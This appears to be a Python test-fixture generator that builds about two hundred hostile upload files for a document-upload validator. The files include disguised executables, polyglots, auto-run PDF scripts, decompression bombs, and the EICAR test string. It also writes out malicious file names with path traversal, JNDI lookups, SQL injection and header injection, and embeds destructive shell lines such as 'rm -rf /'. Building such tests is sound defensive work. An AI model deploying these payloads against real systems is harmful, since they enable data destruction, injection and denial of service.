"""Two hundred files that nobody should ever see as a paper, made on the spot; EICAR is put together as it runs."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pikepdf
import pillow_heif
from PIL import Image, PngImagePlugin

from backend.documents.kinds import MediaType

MIB = 1024 * 1024
PDF, JPEG, PNG, HEIC = MediaType.PDF, MediaType.JPEG, MediaType.PNG, MediaType.HEIC
Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array


@dataclass(frozen=True)
class Hostile:
    """One attempt: what is sent, as what, under which name; what is announced where it is not the truth.

    `malware` marks a file that only a scanner can tell from an honest one.
    """

    label: str
    content: bytes
    declared: MediaType
    name: str = "材料.pdf"
    size: int | None = None
    sha256: bytes | None = None
    malware: bool = False


def eicar() -> bytes:
    """The test virus of the scanners' makers, which every scanner knows and which harms nobody."""
    return b"".join((b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$", b"EICAR-STANDARD-ANTIVIRUS-", b"TEST-FILE!$H+H*"))


def photo(kind: str = "JPEG", size: tuple[int, int] = (320, 240), **options: object) -> bytes:
    """An honest picture."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def heic() -> bytes:
    """An honest picture of a phone."""
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.linear_gradient("L").convert("RGB")).save(out)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **options: object) -> bytes:
    """A PDF of empty pages, changed as told."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(200, 200))
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def archive(name: str = "index.html", content: bytes = b"<script>1</script>") -> bytes:
    """A zip of one file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        box.writestr(name, content)
    return out.getvalue()


def all_of_them() -> list[Hostile]:
    """Every attempt, each with a label of its own."""
    makers = (_renamed, _polyglots, _active, _odd_pdfs, _pictures, _bombs, _infected, _names, _liars)
    return [hostile for make in makers for hostile in make()]


def _renamed() -> Iterator[Hostile]:
    """Other kinds of file under the names of ours."""
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as box:
        box.addfile(tarfile.TarInfo("x"))
    others = {
        "windows program": b"MZ\x90\x00" + bytes(60) + b"PE\0\0" + bytes(400),
        "linux program": b"\x7fELF\x02\x01\x01" + bytes(400),
        "mac program": b"\xcf\xfa\xed\xfe" + bytes(400),
        "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100),
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "batch file": b"@echo off\r\ndel /q *.*\r\n",
        "powershell": b"Invoke-WebRequest http://example.org/x -OutFile x\n",
        "html": b"<!doctype html><script>alert(1)</script>",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "xml bomb": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">]><l>&a;</l>',
        "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100),
        "ole document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "word document": archive("word/document.xml", b"<w/>"),
        "jar": archive("META-INF/MANIFEST.MF", b"Main-Class: X"),
        "gzip": gzip.compress(b"x"),
        "tar": tar.getvalue(),
        "rar": b"Rar!\x1a\x07\x00" + bytes(50),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "wasm": b"\x00asm\x01\x00\x00\x00",
        "gif": photo("GIF"),
        "bmp": photo("BMP"),
        "tiff": photo("TIFF"),
        "webp": photo("WEBP"),
        "video": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(100),
        "postscript": b"%!PS-Adobe-3.0\nshowpage\n",
        "text": "证明".encode() * 50,
    }
    for label, content in others.items():
        for declared in (PDF, JPEG):
            yield Hostile(f"{label} as {declared.name}", content, declared, name=f"{label}.{declared.name.lower()}")
    honest = {PDF: pdf(), JPEG: photo(), PNG: photo("PNG"), HEIC: heic()}
    for really, content in honest.items():
        for declared in honest:
            if declared is not really:
                yield Hostile(f"{really.name} called {declared.name}", content, declared)


def _polyglots() -> Iterator[Hostile]:
    """Files that are two files, depending on who reads them."""
    honest = {PDF: pdf(), PNG: photo("PNG"), HEIC: heic()}
    program, page = b"MZ\x90\x00" + bytes(300), b"<html><script>alert(1)</script>"
    for declared, content in (*honest.items(), (JPEG, photo())):
        for label, tail in (("zip", archive()), ("jar", archive("X.class", b"\xca\xfe\xba\xbe"))):
            yield Hostile(f"{declared.name} and {label}", content + tail, declared)
    for declared, content in honest.items():
        for label, tail in (("program", program), ("page", page), ("script", b"\n#!/bin/sh\nrm -rf /\n")):
            yield Hostile(f"{declared.name} and {label}", content + tail, declared)
    for label, head in (("newline", b"\n"), ("page", page), ("program", program), ("zip", archive())):
        yield Hostile(f"{label} before a PDF", head + pdf(), PDF)
    yield Hostile("JPEG that opens as PDF", photo(comment=pdf()[:200]), JPEG)
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", pdf()[:200].decode("latin-1"))
    yield Hostile("PNG that opens as PDF", photo("PNG", pnginfo=text), PNG)


def _active() -> Iterator[Hostile]:
    """PDFs that act by themselves or carry files, written plainly and hidden in object streams."""

    def action(kind: str, **more: Any) -> pikepdf.Dictionary:
        return Dictionary(S=Name(f"/{kind}"), **more)

    def opening(kind: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
        def change(document: pikepdf.Pdf) -> None:
            document.Root.OpenAction = document.make_indirect(action(kind, **more))

        return change

    def clicking(kind: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
        def change(document: pikepdf.Pdf) -> None:
            link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action(kind, **more))
            document.pages[0].Annots = Array([document.make_indirect(link)])

        return change

    def named_script(document: pikepdf.Pdf) -> None:
        script = Dictionary(Names=Array(["x", action("JavaScript", JS="app.alert(1)")]))
        document.Root.Names = Dictionary(JavaScript=script)

    def page_trigger(document: pikepdf.Pdf) -> None:
        document.pages[0].AA = Dictionary(O=action("GoTo"))

    def form(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA="<xdp/>")

    def field_script(document: pikepdf.Pdf) -> None:
        field = Dictionary(FT=Name.Tx, T="x", AA=Dictionary(K=action("JavaScript", JS="1")))
        document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))

    def chained(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action("GoTo", D=Array([0]), Next=action("JavaScript", JS="1"))

    def attached(document: pikepdf.Pdf) -> None:
        document.attachments["x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")

    def noted(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
        document.pages[0].Annots = Array([note])

    def associated(document: pikepdf.Pdf) -> None:
        document.Root.AF = Array([Dictionary(Type=Name.Filespec)])

    def rich_media(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=1)
        note["/RichMedia"] = Dictionary()
        document.pages[0].Annots = Array([note])

    def unreferenced(document: pikepdf.Pdf) -> None:
        document.Root.Kept = document.make_indirect(
            Dictionary(Old=document.make_indirect(action("JavaScript", JS="1")))
        )

    script, program = {"JS": "app.alert(1)"}, {"F": "calc.exe"}
    changes: dict[str, Callable[[pikepdf.Pdf], None]] = {
        "opening script": opening("JavaScript", **script),
        "opening launch": opening("Launch", **program),
        "opening link": opening("URI", URI="https://example.org/"),
        "opening submit": opening("SubmitForm", F="https://example.org/"),
        "opening import": opening("ImportData", F="x.fdf"),
        "opening other file": opening("GoToR", F="x.pdf"),
        "opening embedded file": opening("GoToE", F="x.pdf"),
        "opening rendition": opening("Rendition", OP=0),
        "clicked script": clicking("JavaScript", **script),
        "clicked launch": clicking("Launch", **program),
        "clicked submit": clicking("SubmitForm", F="https://example.org/"),
        "clicked other file": clicking("GoToR", F="x.pdf"),
        "named script": named_script,
        "page trigger": page_trigger,
        "xfa form": form,
        "field script": field_script,
        "chained script": chained,
        "attachment": attached,
        "attachment note": noted,
        "associated file": associated,
        "rich media": rich_media,
        "script in a corner": unreferenced,
    }
    for label, change in changes.items():
        yield Hostile(f"PDF {label}", pdf(change), PDF)
        hidden = pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        yield Hostile(f"PDF {label} in an object stream", hidden, PDF)
    spelled = pdf(opening("JavaScript", **script), static_id=True).replace(b"/JavaScript", b"/J#61vaScript")
    yield Hostile("PDF script spelled otherwise", spelled, PDF)


def _odd_pdfs() -> Iterator[Hostile]:
    """PDFs that are locked, broken, endless, or too much."""
    for owner, user in (("owner", "user"), ("owner", ""), ("", "user")):
        locked = pdf(encryption=pikepdf.Encryption(owner=owner, user=user))
        yield Hostile(f"PDF locked {owner}/{user}", locked, PDF)
    yield Hostile("PDF without a page", pdf(pages=0), PDF)
    yield Hostile("PDF of 61 pages", pdf(pages=61), PDF)
    yield Hostile("PDF of 2000 pages", pdf(pages=2000), PDF)
    yield Hostile("PDF of nothing", b"%PDF-1.7\n" + bytes(500), PDF)
    yield Hostile("PDF of a header", b"%PDF-1.7\n%%EOF\n", PDF)

    def nested(document: pikepdf.Pdf) -> None:
        deep = Dictionary()
        for _ in range(60):
            deep = Dictionary(Kid=deep)
        document.Root.Deep = deep

    yield Hostile("PDF nested deeply", pdf(nested), PDF)


def _pictures() -> Iterator[Hostile]:
    """Pictures that are cut, broken, or lie about their size."""
    for kind, declared in (("JPEG", JPEG), ("PNG", PNG)):
        whole = photo(kind, (1200, 900))
        for tenth in (1, 3, 5, 8):
            yield Hostile(f"{kind} cut at {tenth}0 %", whole[: len(whole) * tenth // 10], declared)
    whole = heic()
    for tenth in (1, 3, 5, 8):
        yield Hostile(f"HEIC cut at {tenth}0 %", whole[: len(whole) * tenth // 10], HEIC)
    for declared, lead in ((JPEG, b"\xff\xd8\xff\xe0"), (PNG, b"\x89PNG\r\n\x1a\n"), (HEIC, b"\0\0\0\x18ftypheic")):
        for filling in (bytes(500), b"\xff" * 500, b"A" * 500):
            yield Hostile(f"{declared.name} of {filling[:1]!r}", lead + filling, declared)


def _bombs() -> Iterator[Hostile]:
    """Small files that want to be large."""
    for width, height in ((30_000, 30_000), (60_001, 1_000), (1_000, 60_001), (2**31 - 1, 1), (200_000, 200_000)):
        yield Hostile(f"PNG of {width}×{height}", _png_header(width, height), PNG)
    frame = photo()
    at = frame.index(b"\xff\xc0") + 5
    yield Hostile("JPEG of 65500×65500", frame[:at] + struct.pack(">HH", 65_500, 65_500) + frame[at + 4 :], JPEG)
    bomb = archive("a", bytes(50 * MIB))
    yield Hostile("zip bomb", bomb, PDF)
    for depth in range(1, 5):
        bomb = archive("a.zip", bomb)
        yield Hostile(f"zip bomb {depth} deep", bomb, PDF)
    yield Hostile("PNG and a zip bomb", photo("PNG") + bomb, PNG)
    yield Hostile("gzip bomb", gzip.compress(bytes(50 * MIB)), JPEG)
    packed = zlib.compress(bytes(80 * MIB))
    text = struct.pack(">I", 2 + len(packed) + 1) + b"zTXta\0\0" + packed + b"\0"
    chunk = text + struct.pack(">I", zlib.crc32(text[4:]))
    picture = photo("PNG")
    yield Hostile("PNG with a text bomb", picture[:33] + chunk + picture[33:], PNG)


def _infected() -> Iterator[Hostile]:
    """EICAR by itself, packed, and inside files that are honest but for it."""
    virus = eicar()
    for declared in MediaType:
        yield Hostile(f"EICAR as {declared.name}", virus, declared)
    yield Hostile("EICAR zipped", archive("eicar.com", virus), PDF)
    yield Hostile("EICAR zipped twice", archive("a.zip", archive("eicar.com", virus)), PDF)
    yield Hostile("EICAR zipped behind a photograph", photo() + archive("eicar.com", virus), JPEG)
    yield Hostile("EICAR behind a photograph", photo() + virus, JPEG, malware=True)
    yield Hostile("EICAR in a photograph's comment", photo(comment=virus), JPEG, malware=True)
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", virus.decode())
    yield Hostile("EICAR in a PNG's text", photo("PNG", pnginfo=text), PNG, malware=True)

    def streamed(document: pikepdf.Pdf) -> None:
        document.Root.Extra = document.make_stream(virus)

    yield Hostile("EICAR in a PDF", pdf(streamed, compress_streams=False), PDF, malware=True)
    yield Hostile("EICAR packed in a PDF", pdf(streamed, compress_streams=True), PDF, malware=True)


def _names() -> Iterator[Hostile]:
    """Programs under names that climb out of folders, turn around, or hide their end."""
    program = b"MZ\x90\x00" + bytes(60) + b"PE\0\0" + bytes(400)
    for name in (
        "../../etc/passwd.pdf",
        "..\\..\\windows\\system32\\x.pdf",
        "/etc/cron.d/x.pdf",
        "C:\\x\\y.pdf",
        "\\\\server\\share\\x.pdf",
        "证明\u202efdp.exe",
        "\u2066证明\u2069.pdf.exe",
        "\u200f证明.pdf",
        "证明.pdf\x00.exe",
        "证明\r\nContent-Type: text/html.pdf",
        "<img src=x onerror=alert(1)>.pdf",
        '证明";filename="x.exe.pdf',
        "${jndi:ldap://example.org/x}.pdf",
        "'; DROP TABLE upload; --.pdf",
        "x" * 500 + ".pdf",
        "..",
        "/",
        "",
    ):
        yield Hostile(f"named {name[:30]!r}", program, PDF, name=name)


def _liars() -> Iterator[Hostile]:
    """Honest pictures that were announced as something else, nothing at all, and far too much."""
    colours = ("red", "green", "blue", "white", "black", "grey")
    for colour in colours:
        out = io.BytesIO()
        Image.new("RGB", (64, 64), colour).save(out, "PNG")
        yield Hostile(f"{colour}, another checksum", out.getvalue(), PNG, sha256=bytes(range(32)))
        yield Hostile(f"{colour}, a larger size", out.getvalue(), PNG, size=len(out.getvalue()) + 1)
        yield Hostile(f"{colour}, a smaller size", out.getvalue(), PNG, size=len(out.getvalue()) - 1)
    for declared in MediaType:
        yield Hostile(f"nothing as {declared.name}", b"", declared)
        yield Hostile(f"nothing announced as something, {declared.name}", b"", declared, size=100)
    large = photo() + bytes(21 * MIB)
    yield Hostile("21 MB", large, JPEG)
    yield Hostile("21 MB announced as 20", large, JPEG, size=20 * MIB)
    yield Hostile("21 MB announced as one byte", large, JPEG, size=1)


def _png_header(width: int, height: int) -> bytes:
    """A PNG that says how large it is and has hardly anything in it."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
